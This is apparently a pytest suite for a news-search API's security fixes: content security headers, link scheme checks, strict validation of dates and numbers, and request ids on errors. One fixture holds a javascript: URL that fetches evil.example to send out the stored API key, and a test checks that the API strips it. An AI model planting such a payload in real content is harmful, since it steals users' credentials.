"""Issue 13 over real HTTP: unsafe article links, the chat page's headers, impossible dates,
coerced numbers, unbounded lists, and the request id of a 500."""

from __future__ import annotations

import base64
import hashlib
import re
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest

from api.app import STATIC, create_app
from api.settings import Settings
from index.embedding import Embedder
from tests.api.server import serving

POISONED_LINK = {
    "title": "Harbour ferry timetable changes",
    "text": "The harbour ferry will run every 20 minutes from Monday, the operator said.",
    "url": "javascript:fetch('//evil.example/?k='+localStorage.getItem('newsrag-key'))",
    "source": "Test Herald",
}


def test_chat_page_has_a_content_security_policy(client: httpx.Client) -> None:
    page = client.get("/")
    assert page.status_code == 200
    policy = page.headers["content-security-policy"]
    assert "default-src 'none'" in policy and "frame-ancestors 'none'" in policy
    assert "unsafe-inline" not in policy and "unsafe-eval" not in policy
    script = re.search(r"<script>(.*?)</script>", page.text, re.DOTALL)
    assert script is not None
    digest = base64.b64encode(hashlib.sha256(script.group(1).encode()).digest()).decode()
    assert f"'sha256-{digest}'" in policy  # the page's own script still runs
    assert page.headers["x-content-type-options"] == "nosniff"
    assert page.headers["x-frame-options"] == "DENY"
    assert page.headers["referrer-policy"] == "no-referrer"


def test_json_responses_carry_nosniff_and_a_closed_policy(client: httpx.Client) -> None:
    for response in (client.get("/healthz"), client.post("/ask", json={})):
        assert response.headers["x-content-type-options"] == "nosniff"
        assert response.headers["content-security-policy"].startswith("default-src 'none'")


def test_chat_page_links_only_http_urls() -> None:
    """The page builds links as DOM nodes, with a scheme check and rel=noopener."""
    html = (STATIC / "chat.html").read_text(encoding="utf-8")
    assert "innerHTML" not in html and "insertAdjacentHTML" not in html
    assert 'parsed.protocol === "http:" || parsed.protocol === "https:"' in html
    assert "noopener" in html
    assert "href: c.url" not in html  # the old unchecked link


def test_javascript_url_is_neither_stored_nor_served(client: httpx.Client) -> None:
    added = client.post("/articles", json={"articles": [POISONED_LINK]})
    assert added.status_code == 200, added.text
    article_id = added.json()["article_ids"][0]
    stored = client.get(f"/articles/{article_id}").json()
    assert stored["url"] is None
    searched = client.post("/search", json={"question": "harbour ferry every 20 minutes"}).json()
    found = [p for p in searched["passages"] if p["article_id"] == article_id]
    assert found and all(p["url"] is None for p in found), searched
    answer = client.post(
        "/ask", json={"question": "How often will the harbour ferry run from Monday?"}
    ).json()
    assert all("javascript" not in (c["url"] or "") for c in answer["citations"])


@pytest.mark.parametrize(
    ("payload", "field"),
    [
        ({"question": "Xi?", "since": "2024-13-45"}, "since"),
        ({"question": "Xi?", "since": "2024-02-30"}, "since"),
        ({"question": "Xi?", "until": "0000-00-00"}, "until"),
        ({"question": "Xi?", "until": "2023-04-31"}, "until"),
        ({"question": "Xi?", "k": "5"}, "k"),
        ({"question": "Xi?", "k": True}, "k"),
        ({"question": "Xi?", "k": 5.0}, "k"),
        ({"question": "Xi?", "source": ["BBC"] * 101}, "source"),
        ({"question": "Xi?", "source": "x" * 201}, "source"),
    ],
)
def test_impossible_dates_and_coerced_values_are_422(
    client: httpx.Client, payload: dict[str, object], field: str
) -> None:
    for path in ("/ask", "/search"):
        response = client.post(path, json=payload)
        assert response.status_code == 422, response.text
        body = response.json()
        assert field in body["error"] and body["request_id"] not in (None, "", "-")


def test_a_real_leap_day_is_accepted(client: httpx.Client) -> None:
    response = client.post("/search", json={"question": "Xi?", "since": "2024-02-29"})
    assert response.status_code == 200


@pytest.mark.parametrize(
    ("payload", "field"),
    [
        ({"messages": [{"role": "user", "content": "Xi?"}], "k": "3"}, "k"),
        ({"messages": [{"role": "user", "content": "Xi?"}], "stream": "true"}, "stream"),
        ({"messages": [{"role": "user", "content": "Xi?"}] * 201}, "messages"),
    ],
)
def test_openai_request_is_strict(
    client: httpx.Client, payload: dict[str, object], field: str
) -> None:
    response = client.post("/v1/chat/completions", json=payload)
    assert response.status_code == 422, response.text
    assert field in response.json()["error"]


@pytest.fixture(scope="module")
def roomy_server(server_index: Path, embedder: Embedder) -> Iterator[str]:
    """A server with a body limit large enough for the 250,000-outlet filter, and one route
    that fails the way an unforeseen bug does."""
    settings = Settings(index_dir=server_index, rate_limit_per_minute=0)
    app = create_app(settings, embedder)

    @app.get("/boom")
    async def boom() -> None:
        raise RuntimeError("an unforeseen bug")

    with serving(app) as url:  # uvicorn reports started once the lifespan loaded the index
        yield url


def test_huge_source_list_and_long_file_name_are_422(roomy_server: str) -> None:
    with httpx.Client(base_url=roomy_server, timeout=120) as http:
        many = http.post("/ask", json={"question": "Xi?", "source": ["BBC"] * 250_000})
        assert many.status_code == 422 and "source" in many.json()["error"]
        name = "a" * 300 + ".txt"
        upload = http.post("/articles", files={"file": (name, b"Title\n\nSome text here.")})
        assert upload.status_code == 422, upload.text
        assert "file" in upload.json()["error"]


def test_500_body_carries_the_request_id(roomy_server: str) -> None:
    with httpx.Client(base_url=roomy_server, timeout=60) as http:
        response = http.get("/boom")
        assert response.status_code == 500
        body = response.json()
        assert body["error"] == "internal error"
        assert re.fullmatch(r"[0-9a-f]{16}", body["request_id"]), body
        assert response.headers["x-request-id"] == body["request_id"]
        chosen = http.get("/boom", headers={"X-Request-ID": "trace-42"})
        assert chosen.json()["request_id"] == "trace-42"
